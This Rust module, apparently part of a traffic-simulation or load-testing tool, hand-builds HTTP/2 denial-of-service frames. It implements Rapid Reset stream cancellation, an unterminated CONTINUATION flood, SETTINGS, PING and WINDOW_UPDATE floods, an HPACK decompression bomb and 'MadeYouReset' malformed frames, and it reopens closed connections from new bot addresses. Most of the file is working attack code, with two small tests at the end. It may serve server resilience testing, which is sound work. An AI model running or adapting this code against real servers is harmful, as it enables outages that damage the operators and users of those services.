//! HTTP/2 frames that cost the server more than the client.
//!
//! The frames are written by hand, because no honest library would send them. Each connection has one trick and plays it for as
//! long as the server lets it; one the server closes is opened again from the next address.

use std::time::Duration;

use super::attack::{Field, Span};
use super::schedule::Schedule;
use crate::chance::Chance;
use crate::scenario::{Arrivals, H2Abuse, H2Trick};
use crate::wire::hpack::string;
use crate::wire::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
    STREAM_MAX, WINDOW_UPDATE, frame,
};
use crate::wire::{Key, Use};

const CANCEL: u32 = 8;

/// Sent before the wire is heard again.
const FIRED_AT_ONCE: usize = 256;
/// A connection whose server does not read is not fed more than this.
const UNSENT_BYTES_MAX: usize = 64 * 1024;
/// Of the field that a bomb puts into the table, just below the table's usual 4,096 bytes.
const BOMB_FIELD_BYTES: usize = 4_000;
/// One byte each, 4,000 when unpacked.
const BOMB_REFERENCES: usize = 1_000;

pub(super) struct H2Attack {
    span: Span,
    schedule: Schedule<Box<dyn Fn(Duration) -> f64>>,
    chance: Chance,
    lines: Vec<Line>,
    at: usize,
    turns: usize,
    frames: Vec<u8>,
}

struct Line {
    trick: H2Trick,
    key: Option<Key>,
    /// The next stream to open.
    stream: u32,
    /// Frames sent on this connection.
    sent: u32,
}

impl H2Attack {
    pub(super) fn new(abuse: &H2Abuse, span: Span, chance: Chance) -> Self {
        let rate = abuse.rate;
        let rate: Box<dyn Fn(Duration) -> f64> = Box::new(move |_| rate);
        let lines = abuse.tricks.iter().cycle().take(abuse.connections as usize);
        Self {
            span,
            schedule: Schedule::new(
                rate,
                Arrivals::Even,
                1,
                span.start,
                span.end,
                Chance::new(0),
            ),
            chance,
            lines: lines
                .map(|trick| Line {
                    trick: *trick,
                    key: None,
                    stream: 1,
                    sent: 0,
                })
                .collect(),
            at: 0,
            turns: 0,
            frames: Vec::new(),
        }
    }

    pub(super) fn next(&self) -> Option<Duration> {
        self.schedule.peek()
    }

    pub(super) fn left(&mut self) -> u64 {
        self.schedule.left()
    }

    pub(super) fn fire(&mut self, now: Duration, field: &mut Field<'_>) {
        for _ in 0..FIRED_AT_ONCE {
            let Some(due) = self.span.pop(&mut self.schedule, now, field.notes) else {
                return;
            };
            self.abuse(due, field);
        }
    }

    fn abuse(&mut self, due: Duration, field: &mut Field<'_>) {
        let line = self.at;
        self.at = (self.at + 1) % self.lines.len();
        let line = &mut self.lines[line];
        field.notes.note(due, |tally| tally.requests += 1);
        self.frames.clear();
        let key = match line.key {
            Some(key) => key,
            None => {
                let bot = self.span.address(self.turns);
                self.turns += 1;
                let Some(key) = field.open(field.ground.address(bot), Use::Drain, due) else {
                    return;
                };
                (line.key, line.stream, line.sent) = (Some(key), 1, 0);
                self.frames.extend_from_slice(PREFACE);
                frame(&mut self.frames, SETTINGS, 0, 0, &[]);
                key
            }
        };
        if field.wire.unsent(key) > UNSENT_BYTES_MAX {
            return field.notes.note(due, |tally| tally.abandoned += 1);
        }
        play(line, field.ground.host, &mut self.chance, &mut self.frames);
        line.sent += 1;
        // What fails here is heard as the connection's end.
        field.wire.push(key, &self.frames);
        if line.stream >= STREAM_MAX {
            line.key = None;
            field.wire.close(key, true);
        }
    }

    /// The server closed it; it is opened again when its next turn comes.
    pub(super) fn hear(&mut self, now: Duration, key: Key, field: &mut Field<'_>) {
        field.notes.note(now, |tally| tally.refused += 1);
        field.wire.close(key, true);
        if let Some(line) = self.lines.iter_mut().find(|line| line.key == Some(key)) {
            line.key = None;
        }
    }
}

/// One turn of a connection's trick.
fn play(line: &mut Line, host: &str, chance: &mut Chance, out: &mut Vec<u8>) {
    let stream = line.stream;
    match line.trick {
        H2Trick::RapidReset => {
            request(out, stream, host);
            frame(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            line.stream += 2;
        }
        H2Trick::Continuation => {
            if line.sent == 0 {
                frame(out, HEADERS, END_STREAM, stream, &request_block(host));
            }
            // A field a frame, without the flag that would end the block.
            let mut block = vec![0x00];
            string(&mut block, b"x-more");
            string(&mut block, &[b'a'; 100]);
            frame(out, CONTINUATION, 0, stream, &block);
        }
        H2Trick::Settings => {
            // SETTINGS_INITIAL_WINDOW_SIZE, another each time, for the server to apply and acknowledge.
            let size = 65_535 + (chance.draw() as u32 & 0xffff);
            let mut payload = vec![0, 4];
            payload.extend_from_slice(&size.to_be_bytes());
            frame(out, SETTINGS, 0, 0, &payload);
        }
        H2Trick::Ping => frame(out, PING, 0, 0, &chance.draw().to_be_bytes()),
        H2Trick::WindowUpdate => frame(out, WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        H2Trick::HpackBomb => {
            let mut block = request_block(host);
            // With incremental indexing: it becomes entry 62, the first of the dynamic table.
            block.push(0x40);
            string(&mut block, b"x");
            string(&mut block, &[b'a'; BOMB_FIELD_BYTES]);
            block.extend(std::iter::repeat_n(0x80 | 62, BOMB_REFERENCES));
            frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &block);
            line.stream += 2;
        }
        H2Trick::MadeYouReset => {
            request(out, stream, host);
            match line.sent % 3 {
                // No increment; more window than there can be; a body after its end (RFC 9113 §§6.9, 6.9.1, 5.1).
                0 => frame(out, WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
                1 => frame(out, WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes()),
                _ => frame(out, DATA, 0, stream, b"more"),
            }
            line.stream += 2;
        }
    }
}

/// A whole request without a body.
fn request(out: &mut Vec<u8>, stream: u32, host: &str) {
    let flags = END_STREAM | END_HEADERS;
    frame(out, HEADERS, flags, stream, &request_block(host));
}

/// `GET /` over http, from the static table; the authority written out.
fn request_block(host: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x41];
    string(&mut block, host.as_bytes());
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_the_shape_of_the_rfc() {
        let mut out = Vec::new();
        frame(&mut out, RST_STREAM, 0, 5, &CANCEL.to_be_bytes());
        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 5, 0, 0, 0, 8]);
    }

    #[test]
    fn a_bomb_is_small_on_the_wire() {
        let mut line = Line {
            trick: H2Trick::HpackBomb,
            key: None,
            stream: 1,
            sent: 0,
        };
        let mut out = Vec::new();
        play(&mut line, "qala.example", &mut Chance::new(1), &mut out);
        assert!(out.len() < 5_100, "{}", out.len());
        assert_eq!(line.stream, 3);
    }
}
